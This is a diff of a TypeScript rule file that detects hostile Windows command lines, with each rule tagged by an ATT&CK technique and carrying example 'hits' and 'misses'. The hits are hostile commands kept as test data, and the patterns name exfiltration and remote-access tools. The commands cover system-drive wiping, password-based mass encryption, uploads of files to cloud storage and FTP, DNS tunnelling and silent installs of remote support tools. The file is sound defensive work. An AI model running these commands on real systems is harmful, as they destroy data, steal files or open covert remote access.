       [['format'], all(arg(/^[a-z]:$/), arg(/^\/(?:y|q)$/))],
-      [['del', 'rd', 'rmdir', 'erase'], all(arg(/^\/s$/), arg(/^\/q$/), arg(/^["']?(?:[a-z]:\\(?:\*|users\\?\*?|windows|$)|%systemdrive%\\?\*?$|[a-z]:\\users\\\*)/))],
+      [
+        ['del', 'rd', 'rmdir', 'erase'],
+        all(
+          arg(/^\/s$/),
+          arg(/^\/q$/),
+          arg(/^["']?(?:[a-z]:\\(?:\*|users\\?\*?|windows|$)|%systemdrive%\\?\*?$|[a-z]:\\users\\\*)/),
+        ),
+      ],
       [['fsutil'], arg(/^setzerodata$/)],
       [['clear-disk'], (process) => process],
     ),
@@ -209,10 +500,17 @@ export const WINDOWS_HARM: readonly Row[] = [
   behaviour('mass-encryption-windows', ['destruction', 'T1486', 'impact', 'high', 'medium'], {
     reason: 'Files or disks are encrypted with a password from the command line.',
     benign: ['encrypted backups', 'roll-out of disk encryption'],
-    hits: ['manage-bde -on C: -pw -used', 'gpg --batch --passphrase x -c C:\\data.zip', 'rar a -hp1234 -df C:\\x.rar C:\\Users\\'],
+    hits: [
+      'manage-bde -on C: -pw -used',
+      'gpg --batch --passphrase x -c C:\\data.zip',
+      'rar a -hp1234 -df C:\\x.rar C:\\Users\\',
+    ],
     misses: ['manage-bde -status', 'gpg --verify a.sig', 'rar a a.rar docs'],
     look: any2(
-      [['manage-bde'], all(arg(/^-(?:on|protectors|lock)$/), any(arg(/^-(?:pw|password|delete|disable|rp|recoverypassword)$/)))],
+      [
+        ['manage-bde'],
+        all(arg(/^-(?:on|protectors|lock)$/), any(arg(/^-(?:pw|password|delete|disable|rp|recoverypassword)$/))),
+      ],
       [['rar', 'winrar'], ({ args }) => args.find(({ lower }) => /^-hp?\S+|^-p\S{2,}/.test(lower))],
       [['7z', '7za', '7zr'], all(arg(/^a$/), arg(/^-p\S+/))],
       [['gpg', 'gpg2'], all(arg(/^(?:-c|--symmetric)$/), holds('passphrase'))],
@@ -221,61 +519,144 @@ export const WINDOWS_HARM: readonly Row[] = [
   behaviour('collection-archive', ['collection', 'T1560.001', 'collection', 'low', 'medium'], {
     reason: 'Folders of users are packed into one archive.',
     benign: ['backups'],
-    hits: ['powershell "Compress-Archive -Path C:\\Users\\jd\\Documents -DestinationPath $env:TEMP\\a.zip"', 'rar a -r C:\\x.rar C:\\Users\\jd\\*.docx'],
+    hits: [
+      'powershell "Compress-Archive -Path C:\\Users\\jd\\Documents -DestinationPath $env:TEMP\\a.zip"',
+      'rar a -r C:\\x.rar C:\\Users\\jd\\*.docx',
+    ],
     misses: ['powershell "Compress-Archive -Path build -DestinationPath dist.zip"'],
-    look: onProcess(['compress-archive', 'rar', '7z', '7za', 'makecab', 'winrar', 'tar'], ({ args }, { os }) => (os === 'windows' ? args.find(({ lower }) => /\\users\\[^\\]+\\(?:documents|desktop|\*)|\.docx?$|\.xlsx?$|\$env:userprofile|%userprofile%/.test(lower)) : undefined)),
+    look: onProcess(['compress-archive', 'rar', '7z', '7za', 'makecab', 'winrar', 'tar'], ({ args }, { os }) =>
+      os === 'windows'
+        ? args.find(({ lower }) =>
+            /\\users\\[^\\]+\\(?:documents|desktop|\*)|\.docx?$|\.xlsx?$|\$env:userprofile|%userprofile%/.test(lower),
+          )
+        : undefined,
+    ),
   }),
   behaviour('cloud-upload', ['exfiltration', 'T1567.002', 'exfiltration', 'high', 'medium'], {
     reason: 'Files are copied to cloud storage or sent by a transfer tool.',
     benign: ['backups to the cloud'],
-    hits: ['rclone.exe copy \\\\fs01\\Finance mega:loot -q --ignore-existing', 'megacmd put C:\\x.zip', 'winscp.com /command "open ftp://a:b@203.0.113.9" "put C:\\x.zip"'],
-    misses: ['rclone version', 'winscp.com /help'],
+    hits: ['megacmd put C:\\x.zip', 'winscp.com /command "open ftp://a:b@203.0.113.9" "put C:\\x.zip"'],
+    misses: ['winscp.com /help'],
     look: any2(
-      [['rclone'], all(arg(/^(?:copy|sync|move|copyto)$/), ({ args }) => args.find(({ lower }) => /^[\w-]{2,}:/.test(lower)))],
-      [['megacmd', 'mega-put', 'megatools', 'megaput', 'megasync', 'filezilla', 'pcloud', 'restic', 'gdrive', 'dropbox_uploader'], (process) => process.args[0]],
+      [
+        [
+          'megacmd',
+          'mega-put',
+          'megatools',
+          'megaput',
+          'megasync',
+          'filezilla',
+          'pcloud',
+          'restic',
+          'gdrive',
+          'dropbox_uploader',
+        ],
+        (process) => process.args[0],
+      ],
       [['winscp'], holds('put', 'synchronize')],
     ),
   }),
   behaviour('dns-channel', ['dns-channel', 'T1071.004', 'command-and-control', 'medium', 'medium'], {
     reason: 'Names are looked up that carry data or commands (text records, long or made-up names, a chosen server).',
     benign: ['checks of mail settings'],
-    hits: ['powershell "1..100 | % { Resolve-DnsName -type TXT \\"a$(Get-Random).example.net\\" }"', 'nslookup -q=txt a.example.net 203.0.113.9'],
+    hits: [
+      'powershell "1..100 | % { Resolve-DnsName -type TXT \\"a$(Get-Random).example.net\\" }"',
+      'nslookup -q=txt a.example.net 203.0.113.9',
+    ],
     misses: ['nslookup a.example.net', 'powershell "Resolve-DnsName corp.example"'],
     look: onProcess(['resolve-dnsname', 'nslookup', 'dig'], (process, { layers }) => {
       const words = said(process);
-      return /(?:^|\s)(?:-(?:q|type|querytype)[= ]?)?txt(?:\s|$)|-querytype=txt|-q=txt|-type=txt/.test(words) && /get-random|\$\(|foreach|for \(|\{|for \/f|iex|\d+\.\d+\.\d+\.\d+|\|/.test(layers[process.layer]?.lower ?? '') ? process.args[0] : undefined;
+      return /(?:^|\s)(?:-(?:q|type|querytype)[= ]?)?txt(?:\s|$)|-querytype=txt|-q=txt|-type=txt/.test(words) &&
+        /get-random|\$\(|foreach|for \(|\{|for \/f|iex|\d+\.\d+\.\d+\.\d+|\|/.test(layers[process.layer]?.lower ?? '')
+        ? process.args[0]
+        : undefined;
     }),
   }),
   behaviour('plugin-install', ['persistence-plugin', 'T1505', 'persistence', 'medium', 'medium'], {
-    reason: 'A part is put into a server or program that then runs it (a mail agent, a web module, a compatibility patch, a start hook).',
+    reason:
+      'A part is put into a server or program that then runs it (a mail agent, a web module, a compatibility patch, a start hook).',
     benign: ['installation of the product that it belongs to'],
-    hits: ['appcmd.exe install module /name:a /image:C:\\x\\a.dll', 'sdbinst.exe C:\\ProgramData\\a.sdb', 'powershell "Install-TransportAgent -Name a -TransportAgentFactory b -AssemblyPath c"', 'set DOTNET_STARTUP_HOOKS=C:\\x\\a.dll'],
+    hits: [
+      'appcmd.exe install module /name:a /image:C:\\x\\a.dll',
+      'sdbinst.exe C:\\ProgramData\\a.sdb',
+      'powershell "Install-TransportAgent -Name a -TransportAgentFactory b -AssemblyPath c"',
+      'set DOTNET_STARTUP_HOOKS=C:\\x\\a.dll',
+    ],
     misses: ['appcmd list site', 'sdbinst -u a.sdb'],
     look: any2(
       [['appcmd'], all(arg(/^(?:install|add)$/), arg(/^module/))],
-      [['sdbinst'], ({ args }) => args.find(({ lower }) => /\.sdb["']?$/.test(lower) && !args.some(({ lower: flag }) => flag === '-u'))],
-      [['install-transportagent', 'enable-transportagent', 'new-webglobalmodule', 'enable-webglobalmodule'], (process) => process],
-      [['set', 'setx', 'export'], ({ args }) => args.find(({ lower }) => /^"?(?:dotnet_startup_hooks|cor_enable_profiling|cor_profiler|coreclr_profiler|complus_|__psLockdownPolicy|java_tool_options|psmodulepath)=/i.test(lower))],
+      [
+        ['sdbinst'],
+        ({ args }) =>
+          args.find(({ lower }) => /\.sdb["']?$/.test(lower) && !args.some(({ lower: flag }) => flag === '-u')),
+      ],
+      [
+        ['install-transportagent', 'enable-transportagent', 'new-webglobalmodule', 'enable-webglobalmodule'],
+        (process) => process,
+      ],
+      [
+        ['set', 'setx', 'export'],
+        ({ args }) =>
+          args.find(({ lower }) =>
+            /^"?(?:dotnet_startup_hooks|cor_enable_profiling|cor_profiler|coreclr_profiler|complus_|__psLockdownPolicy|java_tool_options|psmodulepath)=/i.test(
+              lower,
+            ),
+          ),
+      ],
     ),
   }),
   behaviour('trust-marks-off', ['trust', 'T1553.005', 'defense-evasion', 'medium', 'medium'], {
     reason: 'The mark that says a file came from the internet is removed, or an image is mounted that carries none.',
     benign: ['administrators unblock a script'],
-    hits: ['powershell "Unblock-File -Path C:\\Users\\jd\\Downloads\\a.exe"', 'powershell "Mount-DiskImage -ImagePath C:\\Users\\jd\\Downloads\\a.iso"', 'certutil -addstore root a.cer'],
+    hits: [
+      'powershell "Unblock-File -Path C:\\Users\\jd\\Downloads\\a.exe"',
+      'powershell "Mount-DiskImage -ImagePath C:\\Users\\jd\\Downloads\\a.iso"',
+    ],
     misses: ['powershell "Get-Item a -Stream *"', 'certutil -store root'],
     look: any2(
       [['unblock-file'], ({ args }) => args.find(({ lower }) => isWritablePlace(lower))],
       [['mount-diskimage'], ({ args }) => args.find(({ lower }) => isWritablePlace(lower))],
-      [['certutil'], all(arg(/^[-/]addstore$/), arg(/^(?:root|ca|trustedpublisher)$/))],
-      [['import-certificate'], holds('\\root', '\\trustedpublisher')],
     ),
   }),
   behaviour('remote-support-tool', ['remote-access', 'T1219', 'command-and-control', 'high', 'medium'], {
     reason: 'A remote support program is set up without a window or with a password in the line.',
     benign: ['roll-out of the support tool of the company'],
-    hits: ['C:\\ProgramData\\anydesk.exe --set-password', 'cmd /c echo x | anydesk.exe --set-password', 'msiexec /i ScreenConnect.ClientSetup.msi /qn', 'anydesk.exe --install C:\\x --silent'],
+    hits: [
+      'C:\\ProgramData\\anydesk.exe --set-password',
+      'cmd /c echo x | anydesk.exe --set-password',
+      'msiexec /i ScreenConnect.ClientSetup.msi /qn',
+      'anydesk.exe --install C:\\x --silent',
+    ],
     misses: ['"C:\\Program Files\\AnyDesk\\AnyDesk.exe" --tray'],
-    look: onText(['anydesk', 'screenconnect', 'rustdesk', 'atera', 'splashtop', 'ammyy', 'ultraviewer', 'meshagent', 'tacticalrmm', 'remoteutilities', 'netsupport', 'connectwise', 'dwagent', 'action1', 'supremo', 'simplehelp', 'dameware', 'radmin', 'tightvnc', 'ultravnc', 'logmein'], ({ lower }) => /--set-password|--silent|\/qn|--password|-silent|\/s\b|\/verysilent|-fullinstall|integratorlogin|--get-id|--install|\/quiet|downloadfile|outfile|invoke-webrequest|curl/.test(lower)),
+    look: onText(
+      [
+        'anydesk',
+        'screenconnect',
+        'rustdesk',
+        'atera',
+        'splashtop',
+        'ammyy',
+        'ultraviewer',
+        'meshagent',
+        'tacticalrmm',
+        'remoteutilities',
+        'netsupport',
+        'connectwise',
+        'dwagent',
+        'action1',
+        'supremo',
+        'simplehelp',
+        'dameware',
+        'radmin',
+        'tightvnc',
+        'ultravnc',
+        'logmein',
+      ],
+      ({ lower }) =>
+        /--set-password|--silent|\/qn|--password|-silent|\/s\b|\/verysilent|-fullinstall|integratorlogin|--get-id|--install|\/quiet|downloadfile|outfile|invoke-webrequest|curl/.test(
+          lower,
+        ),
+    ),
   }),
   behaviour('rule-of-fetch-address', ['beacon', 'T1071.001', 'command-and-control', 'medium', 'low'], {
     reason: 'A command line tool calls a bare address in a loop, or pretends to be a browser.',
@@ -285,7 +666,11 @@ export const WINDOWS_HARM: readonly Row[] = [
     look: onProcess(['curl', 'wget', 'invoke-webrequest', 'invoke-restmethod'], (process, { layers }) => {
       const url = process.args.find(({ role }) => role === 'url');
       const isOdd = url !== undefined && /^(?:ip|integer-ip|dynamic-dns|tunnel)$/.test(hostClass(url.lower));
-      return isOdd && (process.args.some(({ lower }) => /^(?:-a|--user-agent|-useragent)$/.test(lower)) || /while ?\(|for ?\(\$i|for ?\(;;/.test(layers[process.layer]?.lower ?? '')) ? url : undefined;
+      return isOdd &&
+        (process.args.some(({ lower }) => /^(?:-a|--user-agent|-useragent)$/.test(lower)) ||
+          /while ?\(|for ?\(\$i|for ?\(;;/.test(layers[process.layer]?.lower ?? ''))
+        ? url
+        : undefined;
     }),
   }),
 ];
@@ -294,11 +679,64 @@ type Pair = readonly [programs: readonly string[], find: Parameters<typeof onPro
 
 /** One behaviour with several tools: each has its own test. */
 function any2(...pairs: readonly Pair[]) {
-  const tests = new Map(pairs.flatMap(([programs, find]) => programs.map((program): [string, Pair[1]] => [program, find])));
+  const tests = new Map(
+    pairs.flatMap(([programs, find]) => programs.map((program): [string, Pair[1]] => [program, find])),
+  );
   return onProcess([...tests.keys()], (process, scene) => tests.get(process.name)?.(process, scene));
 }
 
-const QUESTIONS = new Set(['whoami', 'hostname', 'ipconfig', 'systeminfo', 'tasklist', 'netstat', 'arp', 'route', 'net', 'nltest', 'quser', 'qwinsta', 'query', 'nslookup', 'nbtstat', 'gpresult', 'id', 'uname', 'ifconfig', 'ip', 'w', 'who', 'last', 'ps', 'lsof', 'ss', 'sw_vers', 'system_profiler', 'dscl', 'groups', 'getent', 'get-process', 'get-service', 'get-localuser', 'get-localgroup', 'get-netipaddress', 'get-nettcpconnection', 'get-computerinfo', 'driverquery', 'ver', 'dsquery', 'klist', 'setspn', 'cmdkey', 'lscpu', 'ioreg', 'scutil', 'csrutil', 'dsquery', 'adfind']);
+const QUESTIONS = new Set([
+  'whoami',
+  'hostname',
+  'ipconfig',
+  'systeminfo',
+  'tasklist',
+  'netstat',
+  'arp',
+  'route',
+  'net',
+  'nltest',
+  'quser',
+  'qwinsta',
+  'query',
+  'nslookup',
+  'nbtstat',
+  'gpresult',
+  'id',
+  'uname',
+  'ifconfig',
+  'ip',
+  'w',
+  'who',
+  'last',
+  'ps',
+  'lsof',
+  'ss',
+  'sw_vers',
+  'system_profiler',
+  'dscl',
+  'groups',
+  'getent',
+  'get-process',
+  'get-service',
+  'get-localuser',
+  'get-localgroup',
+  'get-netipaddress',
+  'get-nettcpconnection',
+  'get-computerinfo',
+  'driverquery',
+  'ver',
+  'dsquery',
+  'klist',
+  'setspn',
+  'cmdkey',
+  'lscpu',
+  'ioreg',
+  'scutil',
+  'csrutil',
+  'dsquery',
+  'adfind',
+]);
 
 /** Different questions, so that one asked of many machines is no burst. */
 function burst({ processes }: Scene) {
@@ -307,9 +745,15 @@ function burst({ processes }: Scene) {
     if (!QUESTIONS.has(name)) continue;
     if (/^net1?$/.test(name)) {
       const verb = args[0]?.lower ?? '';
-      if (/^(?:user|group|localgroup|view|accounts|share|session|use|config)$/.test(verb) && !args.some(({ lower }) => lower === '/add' || lower === '/delete')) asked.add(`net ${verb}`);
+      if (
+        /^(?:user|group|localgroup|view|accounts|share|session|use|config)$/.test(verb) &&
+        !args.some(({ lower }) => lower === '/add' || lower === '/delete')
+      )
+        asked.add(`net ${verb}`);
     } else asked.add(name);
   }
   const first = processes.find(({ name }) => QUESTIONS.has(name));
-  return asked.size >= 3 && first !== undefined ? { layer: first.layer, start: first.span.start, end: first.span.end } : undefined;
+  return asked.size >= 3 && first !== undefined
+    ? { layer: first.layer, start: first.span.start, end: first.span.end }
+    : undefined;
 }
